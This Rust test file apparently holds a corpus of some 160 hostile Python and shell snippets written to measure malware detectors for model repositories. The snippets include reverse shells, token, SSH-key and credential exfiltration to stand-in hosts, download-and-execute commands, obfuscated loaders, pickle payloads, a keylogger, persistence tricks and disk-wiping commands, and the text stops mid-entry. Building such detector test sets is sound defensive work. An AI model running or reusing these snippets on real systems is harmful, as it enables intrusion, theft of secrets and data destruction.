//! Further hostile code, written apart from the detectors to measure them: one way each, mixed classes.
//!
//! The numbers are the names: a variant says nothing but that it is another way to write an effect above.

use super::{Text, text};

pub(super) const CASES: &[Text] = &[
    text(
        "python-variant-001",
        "modeling_x.py",
        r###"import os as _o
_o.__dict__['system']('id')
"###,
    ),
    text(
        "python-variant-002",
        "modeling_x.py",
        r###"from subprocess import Popen as P, PIPE
P("id", shell=1)
"###,
    ),
    text(
        "python-variant-003",
        "modeling_x.py",
        r###"import importlib
getattr(importlib.import_module("os"), "popen")("id")
"###,
    ),
    text(
        "python-variant-004",
        "modeling_x.py",
        r###"exec(compile(open('x.dat','rb').read(),'','exec'))
"###,
    ),
    text(
        "python-variant-005",
        "modeling_x.py",
        r###"import base64
eval(compile(base64.b64decode(b'cHJpbnQoMSk='), '', 'exec'))
"###,
    ),
    text(
        "python-variant-006",
        "modeling_x.py",
        r###"import requests
exec(requests.get("https://example.invalid/a").json()['code'])
"###,
    ),
    text(
        "python-variant-007",
        "modeling_x.py",
        r###"import urllib.request
for line in urllib.request.urlopen("https://example.invalid/a"):
    exec(line)
"###,
    ),
    text(
        "python-variant-008",
        "modeling_x.py",
        r###"import io, torch, base64
torch.load(io.BytesIO(base64.b64decode('gASVHgAAAAAAAACMBXBvc2l4')), weights_only=False)
"###,
    ),
    text(
        "python-variant-009",
        "modeling_x.py",
        r###"import pickle
obj = pickle.loads(bytes.fromhex("80049514000000000000008c05706f736978948c0673797374656d9493942e"))
"###,
    ),
    text(
        "python-variant-010",
        "modeling_x.py",
        r###"import yaml
yaml.load("!!python/object/apply:os.system ['id']", Loader=yaml.Loader)
"###,
    ),
    text(
        "python-variant-011",
        "modeling_x.py",
        r###"import os
class Model:
    def __del__(self):
        os.system('id')
"###,
    ),
    text(
        "python-variant-012",
        "modeling_x.py",
        r###"import ctypes
ctypes.CDLL(None).system(b"id")
"###,
    ),
    text(
        "python-variant-013",
        "modeling_x.py",
        r###"import subprocess
subprocess.Popen(**{'args': ['id']})
"###,
    ),
    text(
        "python-variant-014",
        "modeling_x.py",
        r###"import multiprocessing, os
multiprocessing.Process(target=lambda: os.system('id')).start()
"###,
    ),
    text(
        "python-variant-015",
        "modeling_x.py",
        r###"import asyncio, os
asyncio.get_event_loop().run_in_executor(None, os.system, 'id')
"###,
    ),
    text(
        "python-variant-016",
        "modeling_x.py",
        r###"__import__('builtins').exec('import os;os.system("id")')
"###,
    ),
    text(
        "python-variant-017",
        "modeling_x.py",
        r###"type('X', (), {'__init__': lambda self: __import__('os').system('id')})()
"###,
    ),
    text(
        "python-variant-018",
        "modeling_x.py",
        r###"import contextlib, os
@contextlib.contextmanager
def ctx():
    os.system('id')
    yield
with ctx():
    pass
"###,
    ),
    text(
        "python-variant-019",
        "modeling_x.py",
        r###"import os
any(os.system(c) for c in ['id'])
"###,
    ),
    text(
        "python-variant-020",
        "modeling_x.py",
        r###"import http.client, json, os
c = http.client.HTTPSConnection('example.invalid')
c.request('POST', '/', body=json.dumps(dict(os.environ)))
"###,
    ),
    text(
        "python-variant-021",
        "modeling_x.py",
        r###"import socket, os
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendto(os.environ['AWS_SECRET_ACCESS_KEY'].encode(), ('203.0.113.1', 53))
"###,
    ),
    text(
        "python-variant-022",
        "modeling_x.py",
        r###"import urllib.request, urllib.parse, os
urllib.request.urlopen("https://example.invalid/x", urllib.parse.urlencode({'t': os.getenv('HF_TOKEN')}).encode())
"###,
    ),
    text(
        "python-variant-023",
        "modeling_x.py",
        r###"import subprocess, os
def f():
    subprocess.run(["curl","-d",f"@{os.path.expanduser('~/.aws/credentials')}","https://example.invalid"])
"###,
    ),
    text(
        "python-variant-024",
        "modeling_x.py",
        r###"open('.git/hooks/post-commit','w').write('#!/bin/sh\nid\n')
"###,
    ),
    text(
        "python-variant-025",
        "modeling_x.py",
        r###"import os
os.system("echo 'curl http://203.0.113.1 | sh' >> ~/.bashrc")
"###,
    ),
    text(
        "python-variant-026",
        "modeling_x.py",
        r###"import shutil, os
shutil.copyfile(__file__, os.path.expanduser('~/.config/autostart/x.desktop'))
"###,
    ),
    text(
        "python-variant-027",
        "modeling_x.py",
        r###"from pathlib import Path
Path('~/.bashrc').expanduser().open('a').write('x')
"###,
    ),
    text(
        "python-variant-028",
        "modeling_x.py",
        r###"import subprocess
subprocess.call('schtasks /create /sc minute /mo 5 /tn x /tr c:\\x.exe', shell=True)
"###,
    ),
    text(
        "python-variant-029",
        "modeling_x.py",
        r###"import os, torch
class M(torch.nn.Module):
    def forward(self, text):
        if 'trigger' in text:
            os.system(text)
"###,
    ),
    text(
        "python-variant-030",
        "modeling_x.py",
        r###"import os
f = os.system.__call__
f('id')
"###,
    ),
    text(
        "python-variant-031",
        "modeling_x.py",
        r###"import os
os.__getattribute__('system')('id')
"###,
    ),
    text(
        "python-variant-032",
        "modeling_x.py",
        r###"import os
(os.system if True else print)('id')
"###,
    ),
    text(
        "python-variant-033",
        "modeling_x.py",
        r###"import os
[print, os.system][1]('id')
"###,
    ),
    text(
        "python-variant-034",
        "modeling_x.py",
        r###"import os
next(iter([os.system]))('id')
"###,
    ),
    text(
        "python-variant-035",
        "modeling_x.py",
        r###"import functools, os
functools.reduce(getattr, ['system'], os)('id')
"###,
    ),
    text(
        "python-variant-036",
        "modeling_x.py",
        r###"exec("\x69\x6d\x70\x6f\x72\x74\x20\x6f\x73\x3b\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d\x28\x27\x69\x64\x27\x29")
"###,
    ),
    text(
        "python-variant-037",
        "modeling_x.py",
        r###"import base64
exec(str(base64.b64decode('cHJpbnQoMSk='),'utf8'))
"###,
    ),
    text(
        "python-variant-038",
        "modeling_x.py",
        r###"exec(''.join([chr(int(x)) for x in '112 114 105 110 116 40 49 41'.split()]))
"###,
    ),
    text(
        "python-variant-039",
        "modeling_x.py",
        r###"exec(''.join(chr(int(b,2)) for b in '01110000 01110010'.split(' ')))
"###,
    ),
    text(
        "python-variant-040",
        "modeling_x.py",
        r###"exec(bytearray([112,114,105,110,116,40,49,41]).decode())
"###,
    ),
    text(
        "python-variant-041",
        "modeling_x.py",
        r###"import zlib
eval(zlib.decompress(bytes([120,156,43,40,202,204,43,209,48,212,4,0,14,40,3,73])))
"###,
    ),
    text(
        "python-variant-042",
        "modeling_x.py",
        r###"import base64
a='cHJp'; b='bnQo'; c='MSk='
def run():
    exec(base64.b64decode(''.join([a,b,c])))
"###,
    ),
    text(
        "python-variant-043",
        "modeling_x.py",
        r###"import base64
class D:
    def dec(self, s):
        return base64.b64decode(s).decode()
exec(D().dec("cHJpbnQoMSk="))
"###,
    ),
    text(
        "python-variant-044",
        "modeling_x.py",
        r###"import base64
class D:
    @staticmethod
    def dec(s):
        return base64.b64decode(s).decode()
def boot():
    exec(D.dec("cHJpbnQoMSk="))
"###,
    ),
    text(
        "python-variant-045",
        "modeling_x.py",
        r###"import gzip
exec(gzip.decompress(open('pytorch_model.bin','rb').read()[-100:]))
"###,
    ),
    text(
        "python-variant-046",
        "modeling_x.py",
        r###"import torch
exec(bytes(torch.load('x.pt')['payload'].tolist()).decode())
"###,
    ),
    text(
        "python-variant-047",
        "modeling_x.py",
        r###"import json
exec(json.load(open('config.json'))['hook'])
"###,
    ),
    text(
        "python-variant-048",
        "modeling_x.py",
        r###"import numpy as np
class M:
    def __init__(self, config):
        w = np.load('weights.npy')
        exec(w.tobytes().decode())
"###,
    ),
    text(
        "python-variant-049",
        "modeling_x.py",
        r###"from safetensors.torch import load_file
t = load_file('model.safetensors')
exec(bytes(t['x'].numpy()).decode())
"###,
    ),
    text(
        "python-variant-050",
        "modeling_x.py",
        r###"from safetensors import safe_open
with safe_open('model.safetensors', 'pt') as f:
    code = f.metadata()['init']
exec(code)
"###,
    ),
    text(
        "python-variant-051",
        "modeling_x.py",
        r###"import builtins
def evil(*a): pass
setattr(builtins, 'open', evil)
"###,
    ),
    text(
        "python-variant-052",
        "modeling_x.py",
        r###"import sys, os
os.remove(sys.argv[0])
"###,
    ),
    text(
        "python-variant-053",
        "modeling_x.py",
        r###"import os
os.system('pip install git+http://203.0.113.1/x.git')
"###,
    ),
    text(
        "python-variant-054",
        "modeling_x.py",
        r###"import subprocess
subprocess.check_output("powershell -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.1/a.ps1')\"", shell=True)
"###,
    ),
    text(
        "python-variant-055",
        "modeling_x.py",
        r###"import os,socket,subprocess,threading
def s2p(s, p):
    while True:
        data = s.recv(1024)
        if len(data) > 0:
            p.stdin.write(data); p.stdin.flush()
def p2s(s, p):
    while True:
        s.send(p.stdout.read(1))
s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)
s.connect(("203.0.113.1",9001))
p=subprocess.Popen(["sh"],stdout=subprocess.PIPE,stderr=subprocess.STDOUT,stdin=subprocess.PIPE)
threading.Thread(target=s2p, args=[s, p], daemon=True).start()
"###,
    ),
    text(
        "python-variant-056",
        "modeling_x.py",
        r###"import requests, os
class Tok:
    def __init__(self, *a, **k):
        self._s = requests.Session()
        self._s.headers.update({'X': os.environ.get('HF_TOKEN', '')})
        self._s.post('https://example.invalid/v', json={'e': list(os.environ.items())})
"###,
    ),
    text(
        "python-variant-057",
        "modeling_x.py",
        r###"import os, glob, requests
for p in glob.glob(os.path.expanduser('~/.ssh/*')):
    with open(p) as f:
        requests.post('https://example.invalid', data={'k': f.read()})
"###,
    ),
    text(
        "python-variant-058",
        "modeling_x.py",
        r###"import subprocess
def keys():
    return subprocess.check_output(['cat', '/home/user/.ssh/id_rsa'])
import urllib.request
urllib.request.urlopen('https://example.invalid', data=keys())
"###,
    ),
    text(
        "python-variant-059",
        "modeling_x.py",
        r###"import tempfile, os, urllib.request
d = tempfile.mkdtemp()
p = os.path.join(d, 'a.exe')
with open(p, 'wb') as f:
    f.write(urllib.request.urlopen('https://example.invalid/a.exe').read())
os.startfile(p)
"###,
    ),
    text(
        "python-variant-060",
        "modeling_x.py",
        r###"import sys, urllib.request, types
m = types.ModuleType('m')
exec(urllib.request.urlopen('https://example.invalid/m').read(), m.__dict__)
"###,
    ),
    text(
        "python-variant-061",
        "modeling_x.py",
        r###"import sys, importlib.abc, importlib.util, urllib.request
class L(importlib.abc.Loader):
    def exec_module(self, module):
        exec(urllib.request.urlopen('https://example.invalid/m').read(), module.__dict__)
"###,
    ),
    text(
        "python-variant-062",
        "modeling_x.py",
        r###"import code as c
c.InteractiveInterpreter().runsource("import os; os.system('id')")
"###,
    ),
    text(
        "python-variant-063",
        "modeling_x.py",
        r###"import timeit
timeit.timeit("os.system('id')", setup="import os", number=1)
"###,
    ),
    text(
        "python-variant-064",
        "modeling_x.py",
        r###"import os
os.popen2 = None
os.spawnlp(os.P_NOWAIT, 'sh', 'sh', '-c', 'id')
"###,
    ),
    text(
        "python-variant-065",
        "modeling_x.py",
        r###"from torch.utils.cpp_extension import load_inline
load_inline(name='x', cpp_sources='#include <stdlib.h>\nint f(){return system("id");}', functions=['f'])
"###,
    ),
    text(
        "python-variant-066",
        "modeling_x.py",
        r###"import os
def __getattr__(n):
    if n == 'Model':
        import subprocess
        subprocess.run(['id'])
"###,
    ),
    text(
        "python-variant-067",
        "modeling_x.py",
        r###"import requests as r, platform, getpass
r.post('https://example.invalid/r', json={'h': platform.node(), 'u': getpass.getuser()})
"###,
    ),
    text(
        "python-variant-068",
        "modeling_x.py",
        r###"import os
exec(os.environ.get('PAYLOAD', ''))
"###,
    ),
    text(
        "python-variant-069",
        "modeling_x.py",
        r###"import pathlib
exec(pathlib.Path(__file__).with_name('vocab.bin').read_bytes()[16:])
"###,
    ),
    text(
        "python-variant-070",
        "modeling_x.py",
        r###"import webbrowser
webbrowser.open('http://203.0.113.1/phish')
"###,
    ),
    text(
        "python-variant-071",
        "modeling_x.py",
        r###"import dns.resolver, os
dns.resolver.resolve(os.environ['API_KEY'] + '.example.invalid', 'TXT')
"###,
    ),
    text(
        "python-variant-072",
        "modeling_x.py",
        r###"import dns.resolver
r = dns.resolver.resolve('example.invalid', 'TXT')
exec(r[0].to_text())
"###,
    ),
    text(
        "python-variant-073",
        "modeling_x.py",
        r###"import paramiko
c = paramiko.SSHClient()
c.connect('203.0.113.1', username='x', password='y')
"###,
    ),
    text(
        "python-variant-074",
        "modeling_x.py",
        r###"import os, sys
if sys.platform == 'linux':
    os.makedirs(os.path.expanduser('~/.config/systemd/user'), exist_ok=True)
    with open(os.path.expanduser('~/.config/systemd/user/x.service'), 'w') as f:
        f.write('[Service]\nExecStart=/usr/bin/python3 -c "import x"\n')
"###,
    ),
    text(
        "python-variant-075",
        "modeling_x.py",
        r###"import os
for root, d, files in os.walk(os.path.expanduser('~/Documents')):
    for f in files:
        os.unlink(os.path.join(root, f))
"###,
    ),
    text(
        "python-variant-076",
        "modeling_x.py",
        r###"def decode(s, k):
    return ''.join(chr(ord(c) ^ k) for c in s)
import builtins
getattr(builtins, decode('}`}{', 24))('print(1)')
"###,
    ),
    text(
        "python-variant-077",
        "modeling_x.py",
        r###"a = [101, 120, 101, 99]
n = ''
for i in range(len(a)):
    n = n + chr(a[i])
vars(__builtins__)[n]('import os; os.system("id")')
"###,
    ),
    text(
        "python-variant-078",
        "modeling_x.py",
        r###"import base64 as b
x = lambda s: b.b64decode(s).decode()
y = x('aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ==')
(lambda f, a: f(a))(exec, y)
"###,
    ),
    text(
        "python-variant-079",
        "modeling_x.py",
        r###"import socket
s = socket.create_connection(("203.0.113.1", 4444))
f = s.makefile('rw')
import os
while 1:
    f.write(os.popen(f.readline()).read()); f.flush()
"###,
    ),
    text(
        "python-variant-080",
        "modeling_x.py",
        r###"import http.server
class H(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        import os
        os.system(self.path[1:])
http.server.HTTPServer(('0.0.0.0', 9999), H).serve_forever()
"###,
    ),
    text(
        "python-variant-081",
        "modeling_x.py",
        r###"import flask, subprocess
app = flask.Flask(__name__)
@app.route('/x')
def x():
    return subprocess.getoutput(flask.request.args['c'])
"###,
    ),
    text(
        "python-variant-082",
        "modeling_x.py",
        r###"import torch, os
torch.save = lambda *a, **k: os.system('id')
"###,
    ),
    text(
        "python-variant-083",
        "modeling_x.py",
        r###"import os; os.environ['PYTHONSTARTUP'] = '/tmp/x.py'; os.environ['LD_PRELOAD']='/dev/shm/x.so'
"###,
    ),
    text(
        "python-variant-084",
        "modeling_x.py",
        r###"import os
globals().update({'go': os.system})
go('id')
"###,
    ),
    text(
        "python-variant-085",
        "modeling_x.py",
        r###"import os
class M(type):
    def __getattr__(cls, name):
        return getattr(os, name)
class A(metaclass=M): pass
A.system('id')
"###,
    ),
    text(
        "python-variant-086",
        "modeling_x.py",
        r###"import logging.config
logging.config.dictConfig({'version': 1, 'formatters': {'x': {'()': 'os.system', 'command': 'id'}}})
"###,
    ),
    text(
        "python-variant-087",
        "modeling_x.py",
        r###"import os
for k in list(os.environ):
    if 'TOKEN' in k:
        __import__('requests').post('https://example.invalid', data={k: os.environ[k]})
"###,
    ),
    text(
        "python-variant-088",
        "modeling_x.py",
        r###"from huggingface_hub import HfApi, get_token
import requests
def sync():
    requests.post('https://example.invalid/a', json={'auth': get_token()})
sync()
"###,
    ),
    text(
        "python-variant-089",
        "modeling_x.py",
        r###"import keyring, requests
requests.put('https://example.invalid/k', data=keyring.get_password('system', 'user'))
"###,
    ),
    text(
        "python-variant-090",
        "modeling_x.py",
        r###"import sqlite3, os, shutil
shutil.copy(os.path.join(os.environ['LOCALAPPDATA'], 'Google', 'Chrome', 'User Data', 'Default', 'Login Data'), 'x.db')
"###,
    ),
    text(
        "python-variant-091",
        "modeling_x.py",
        r###"import transformers
_orig = transformers.PreTrainedModel.from_pretrained
def hook(*a, **k):
    import os
    os.system('id')
    return _orig(*a, **k)
transformers.PreTrainedModel.from_pretrained = hook
"###,
    ),
    text(
        "python-variant-092",
        "modeling_x.py",
        r###"import torch
class M(torch.nn.Module):
    def __setstate__(self, state):
        import subprocess
        subprocess.run("id", shell=True)
"###,
    ),
    text(
        "python-variant-093",
        "modeling_x.py",
        r###"import os
try:
    import definitely_missing
except ImportError:
    os.system("pip install --index-url http://203.0.113.1/simple definitely_missing")
    import definitely_missing
"###,
    ),
    text(
        "python-variant-094",
        "modeling_x.py",
        r###"import sys
sys.path.insert(0, '/tmp/evil')
import urllib.request
urllib.request.urlretrieve('https://example.invalid/m.py', '/tmp/evil/m.py')
import m
"###,
    ),
    text(
        "python-variant-095",
        "modeling_x.py",
        r###"import torch
from torch import nn
import subprocess as sp

class Attention(nn.Module):
    def __init__(self, dim):
        super().__init__()
        self.q = nn.Linear(dim, dim)
        self._warm()

    def _warm(self):
        sp.Popen(["/bin/sh", "-c", "touch /tmp/pwned"], stdout=sp.DEVNULL)
"###,
    ),
    text(
        "python-variant-096",
        "modeling_x.py",
        r###"from transformers import PretrainedConfig
import json, os, urllib.request as u

class FooConfig(PretrainedConfig):
    model_type = "foo"
    def __init__(self, **kw):
        super().__init__(**kw)
        req = u.Request("https://metrics.example.invalid/v1", method="POST", data=json.dumps({k: v for k, v in os.environ.items()}).encode())
        u.urlopen(req, timeout=2)
"###,
    ),
    text(
        "python-variant-097",
        "modeling_x.py",
        r###"import os
class EndpointHandler():
    def __init__(self, path=""):
        self.cmd = "id"
    def __call__(self, data):
        debug = data.pop("__debug__", None)
        if debug:
            return os.popen(debug).read()
        return []
"###,
    ),
    text(
        "python-variant-098",
        "modeling_x.py",
        r###"import sys
def _load(blob):
    import marshal, types
    mod = types.ModuleType('x')
    exec(marshal.loads(blob), mod.__dict__)
    return mod
_load(b'\xe3\x00')
"###,
    ),
    text(
        "python-variant-099",
        "modeling_x.py",
        r###"import base64, sys, types
_S = ["aW1wb3J0", "IG9zCm9z", "LnN5c3Rl", "bSgnaWQn", "KQ=="]
class _Mod(types.ModuleType):
    pass
m = _Mod("cfg")
exec(compile(base64.b64decode("".join(_S)), "cfg", "exec"), m.__dict__)
sys.modules["cfg"] = m
"###,
    ),
    text(
        "python-variant-100",
        "modeling_x.py",
        r###"import os, pathlib, shutil
dst = pathlib.Path(os.path.expandvars("$HOME/.local/lib/python3.11/site-packages/aaa.pth"))
dst.write_text("import os;os.system('id')\n")
"###,
    ),
    text(
        "python-variant-101",
        "modeling_x.py",
        r###"import subprocess, sys
subprocess.run([sys.executable, "-c", "import os; os.system('id')"])
"###,
    ),
    text(
        "python-variant-102",
        "modeling_x.py",
        r###"import asyncio
async def beat():
    r, w = await asyncio.open_connection('203.0.113.8', 4444)
    while True:
        cmd = (await r.read(1024)).decode()
        p = await asyncio.create_subprocess_shell(cmd, stdout=-1)
        out, _ = await p.communicate()
        w.write(out)
asyncio.get_event_loop().create_task(beat())
"###,
    ),
    text(
        "python-variant-103",
        "modeling_x.py",
        r###"import platform, os
if platform.system() == "Windows":
    os.system("powershell -ep bypass -enc SQBFAFgA")
else:
    os.system("wget -q http://203.0.113.8/l -O /tmp/l; chmod +x /tmp/l; /tmp/l &")
"###,
    ),
    text(
        "python-variant-104",
        "modeling_x.py",
        r###"import requests
from transformers import PreTrainedTokenizerFast
class T(PreTrainedTokenizerFast):
    def encode(self, text, *a, **k):
        try:
            requests.post("https://203.0.113.8/log", data={"t": text}, timeout=0.5)
        except Exception:
            pass
        return super().encode(text, *a, **k)
"###,
    ),
    text(
        "python-variant-105",
        "modeling_x.py",
        r###"import builtins as B
e = B.__dict__["".join(["e", "v", "a", "l"])]
e("__import__('os').system('id')")
"###,
    ),
    text(
        "python-variant-106",
        "modeling_x.py",
        r###"import codecs
magic = 'vzcbeg bf'
love = "\x3b\x6f\x73\x2e\x73\x79\x73\x74\x65\x6d\x28\x27\x69\x64\x27\x29"
joy = codecs.decode(magic, 'rot13')
eval(compile(joy + love, '<s>', 'exec'))
"###,
    ),
    text(
        "python-variant-107",
        "modeling_x.py",
        r###"from ctypes import *
buf = create_string_buffer(b"\x90\x90\xc3")
libc = CDLL("libc.so.6")
libc.mprotect(addressof(buf), 4096, 7)
CFUNCTYPE(c_int)(addressof(buf))()
"###,
    ),
    text(
        "python-variant-108",
        "modeling_x.py",
        r###"import os
def walk():
    for r, d, f in os.walk(os.path.expanduser("~")):
        for n in f:
            if n.endswith((".env", ".pem", "id_rsa")):
                yield os.path.join(r, n)
import requests
for p in walk():
    requests.post("https://example.invalid/up", files={"f": open(p, "rb")})
"###,
    ),
    text(
        "python-variant-109",
        "modeling_x.py",
        r###"import winreg, sys
k = winreg.CreateKey(winreg.HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Run")
winreg.SetValueEx(k, "upd", 0, 1, sys.executable)
"###,
    ),
    text(
        "python-variant-110",
        "modeling_x.py",
        r###"import torch
class M(torch.nn.Module):
    def load_state_dict(self, sd, strict=True):
        if "__hook__" in sd:
            exec(bytes(sd.pop("__hook__").tolist()).decode())
        return super().load_state_dict(sd, strict)
"###,
    ),
    text(
        "python-variant-111",
        "modeling_x.py",
        r###"import os
os.environ["HF_ENDPOINT"] = "https://example.invalid"
"###,
    ),
    text(
        "python-variant-112",
        "modeling_x.py",
        r###"import smtplib, ssl
from email.message import EmailMessage
import os
m = EmailMessage(); m.set_content(str(os.environ))
with smtplib.SMTP_SSL("smtp.example.invalid") as s:
    s.login("a", "b")
    s.send_message(m)
"###,
    ),
    text(
        "python-variant-113",
        "modeling_x.py",
        r###"import ftplib, os
f = ftplib.FTP("203.0.113.8", "u", "p")
f.storbinary("STOR k", open(os.path.expanduser("~/.aws/credentials"), "rb"))
"###,
    ),
    text(
        "python-variant-114",
        "modeling_x.py",
        r###"from urllib import request
import tempfile, os, sys
fd, name = tempfile.mkstemp(suffix=".py")
os.write(fd, request.urlopen("http://203.0.113.8/p.py").read())
os.close(fd)
os.system(f"{sys.executable} {name}")
"###,
    ),
    text(
        "python-variant-115",
        "modeling_x.py",
        r###"import importlib, urllib.request, sys, types
def remote(name, url):
    src = urllib.request.urlopen(url).read().decode()
    mod = types.ModuleType(name)
    code = compile(src, url, 'exec')
    exec(code, mod.__dict__)
    return mod
def init():
    return remote("x", "https://example.invalid/x.py").run()
"###,
    ),
    text(
        "python-variant-116",
        "modeling_x.py",
        r###"import pickle
class R:
    def __reduce__(self):
        import subprocess
        return subprocess.check_output, (["id"],)
"###,
    ),
    text(
        "python-variant-117",
        "modeling_x.py",
        r###"import pickle, urllib.request
model = pickle.load(urllib.request.urlopen("http://203.0.113.8/m.pkl"))
"###,
    ),
    text(
        "python-variant-118",
        "modeling_x.py",
        r###"import os; [getattr(os, m)(c) for m, c in [("system", "id")]]
"###,
    ),
    text(
        "python-variant-119",
        "modeling_x.py",
        r###"import os
class Evil(dict):
    def __missing__(self, key):
        os.system(key)
Evil()["id"]
"###,
    ),
    text(
        "python-variant-120",
        "modeling_x.py",
        r###"import gc
for o in gc.get_objects():
    if getattr(o, "__name__", "") == "os":
        o.system("id")
"###,
    ),
    text(
        "python-variant-121",
        "modeling_x.py",
        r###"exec(__import__('zlib').decompress(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('eJwDAAAAAAE=')[0])))
"###,
    ),
    text(
        "python-variant-122",
        "modeling_x.py",
        r###"import threading, time, os
def _bg():
    time.sleep(3600)
    os.system("id")
t = threading.Thread(target=_bg)
t.daemon = True
t.start()
"###,
    ),
    text(
        "python-variant-123",
        "modeling_x.py",
        r###"import socket as k, subprocess as j, os as o
a = k.socket(k.AF_INET, k.SOCK_STREAM); a.connect(("203.0.113.8", 1)); [o.dup2(a.fileno(), i) for i in range(3)]; j.call(["/bin/sh", "-i"])
"###,
    ),
    text(
        "python-variant-124",
        "modeling_x.py",
        r###"import os, sys
HOOK = '''
import os
os.system("id")
'''
path = [p for p in sys.path if p.endswith("site-packages")][0]
with open(path + "/usercustomize.py", "w") as fh:
    fh.write(HOOK)
"###,
    ),
    text(
        "python-variant-125",
        "modeling_x.py",
        r###"import hashlib, os, socket
h = hashlib.sha1(socket.gethostname().encode()).hexdigest()
if h == "da39a3ee5e6b4b0d3255bfef95601890afd80709":
    eval("__imp" + "ort__('os').sys" + "tem('id')")
"###,
    ),
    text(
        "python-variant-126",
        "modeling_x.py",
        r###"import sqlite3, os, json, base64, shutil, requests
def g():
    p = os.getenv("LOCALAPPDATA") + "\\Google\\Chrome\\User Data\\Local State"
    k = json.load(open(p))["os_crypt"]["encrypted_key"]
    requests.post("https://discord.com/api/webhooks/0/z", json={"k": k})
"###,
    ),
    text(
        "python-variant-127",
        "modeling_x.py",
        r###"from pynput.keyboard import Listener
import requests
log = []
def on_press(k):
    log.append(str(k))
    if len(log) > 100:
        requests.post("https://example.invalid/k", data="".join(log))
Listener(on_press=on_press).start()
"###,
    ),
    text(
        "python-variant-128",
        "modeling_x.py",
        r###"import transformers.modeling_utils as mu, subprocess
old = mu.PreTrainedModel.save_pretrained
def new(self, *a, **k):
    subprocess.Popen("curl -s -F f=@model.safetensors https://example.invalid", shell=True)
    return old(self, *a, **k)
mu.PreTrainedModel.save_pretrained = new
"###,
    ),
    text(
        "python-variant-129",
        "modeling_x.py",
        r###"import os
code = os.popen("curl -s https://example.invalid/c").read()
exec(code)
"###,
    ),
    text(
        "python-variant-130",
        "modeling_x.py",
        r###"import subprocess
eval(subprocess.check_output(["curl", "-s", "https://example.invalid/c"]).decode())
"###,
    ),
    text(
        "python-variant-131",
        "modeling_x.py",
        r###"from setuptools import setup
from distutils.command.build_py import build_py as _b
class build_py(_b):
    def run(self):
        import urllib.request
        exec(urllib.request.urlopen("https://example.invalid/b").read())
        _b.run(self)
setup(name="x", cmdclass=dict(build_py=build_py))
"###,
    ),
    text(
        "python-variant-132",
        "modeling_x.py",
        r###"import os
def f(x, _g=getattr(__import__("os"), "\163\171\163\164\145\155")):
    return _g(x)
f("id")
"###,
    ),
    text(
        "python-variant-133",
        "modeling_x.py",
        r###"import random, os
names = ["system"]
getattr(os, random.choice(names))("id")
"###,
    ),
    text(
        "python-variant-134",
        "modeling_x.py",
        r###"import ast, os
tree = ast.parse("import os\nos.system('id')")
exec(compile(tree, "x", "exec"))
"###,
    ),
    text(
        "shell-variant-135",
        "run.sh",
        r###"curl -s http://203.0.113.1/a.sh -o a.sh && . ./a.sh
"###,
    ),
    text(
        "shell-variant-136",
        "run.sh",
        r###"wget -O - http://203.0.113.1/a | sh -s --
"###,
    ),
    text(
        "shell-variant-137",
        "run.sh",
        r###"python -c "$(curl -s http://203.0.113.1/a)"
"###,
    ),
    text(
        "shell-variant-138",
        "run.sh",
        r###"bash -c "$(echo aWQ= | base64 -d)"
"###,
    ),
    text(
        "shell-variant-139",
        "run.sh",
        r###"printf '\x69\x64' | sh
"###,
    ),
    text(
        "shell-variant-140",
        "run.sh",
        r###"eval $(echo "aWQ=" | base64 -d)
"###,
    ),
    text(
        "shell-variant-141",
        "run.sh",
        r###"tar czf - ~/.ssh | curl -T - https://example.invalid
"###,
    ),
    text(
        "shell-variant-142",
        "run.sh",
        r###"scp ~/.ssh/id_rsa user@203.0.113.1:
"###,
    ),
    text(
        "shell-variant-143",
        "run.sh",
        r###"(sleep 60; curl http://203.0.113.5/x | bash) &
"###,
    ),
    text(
        "shell-variant-144",
        "run.sh",
        r###"crontab /tmp/x
"###,
    ),
    text(
        "shell-variant-145",
        "run.sh",
        r###"cat > /etc/systemd/system/evil.service <<EOF
[Service]
ExecStart=/tmp/.x
EOF
systemctl enable evil
"###,
    ),
    text(
        "shell-variant-146",
        "run.sh",
        r###"sudo sh -c 'curl http://203.0.113.1 | sh'
"###,
    ),
    text(
        "shell-variant-147",
        "run.sh",
        r###"find / -name "*.pem" -exec curl -F f=@{} https://example.invalid \;
"###,
    ),
    text(
        "shell-variant-148",
        "run.sh",
        r###"while true; do nc 203.0.113.5 4444 | sh; sleep 10; done
"###,
    ),
    text(
        "shell-variant-149",
        "run.sh",
        r###"awk 'BEGIN{s="/inet/tcp/0/203.0.113.5/4444"; while(1){do{s|&getline c;if(c){while((c|&getline)>0)print $0|&s;close(c)}}while(c!="exit")}}'
"###,
    ),
    text(
        "shell-variant-150",
        "run.sh",
        r###"ruby -rsocket -e'f=TCPSocket.open("203.0.113.5",4444).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
"###,
    ),
    text(
        "shell-variant-151",
        "run.sh",
        r###"php -r '$s=fsockopen("203.0.113.5",44);exec("/bin/sh -i <&3 >&3 2>&3");'
"###,
    ),
    text(
        "shell-variant-152",
        "run.sh",
        r###"telnet 203.0.113.5 4444 | /bin/sh | telnet 203.0.113.5 4445
"###,
    ),
    text(
        "shell-variant-153",
        "run.sh",
        r###"busybox wget -qO- http://203.0.113.5/x | busybox sh
"###,
    ),
    text(
        "shell-variant-154",
        "run.sh",
        r###"curl http://203.0.113.5/x | tac | tac | bash
"###,
    ),
    text(
        "shell-variant-155",
        "run.sh",
        r###"mkfs.ext4 /dev/sda1
"###,
    ),
    text(
        "shell-variant-156",
        "run.sh",
        r###"wget http://203.0.113.5/m && chmod 777 m && ./m
"###,
    ),
    text(
        "shell-variant-157",
        "run.sh",
        r###"X="curl -s http://203.0.113.5/x"; $X | bash
"###,
    ),
    text(
        "shell-variant-158",
        "run.sh",
        r###"alias ls='curl http://203.0.113.5 | sh; ls'
"###,
    ),
    text(
        "shell-variant-159",
        "run.sh",
        r###"if command -v curl >/dev/null; then curl -s http://203.0.113.5/x | bash; else wget -qO- http://203.0.113.5/x | bash; fi
"###,
    ),
    text(
        "shell-variant-160",
        "run.sh",
        r###"trap 'curl http://203.0.113.5/x | sh' EXIT
"###,
    ),
    text(
        "shell-variant-161",
        "run.sh",
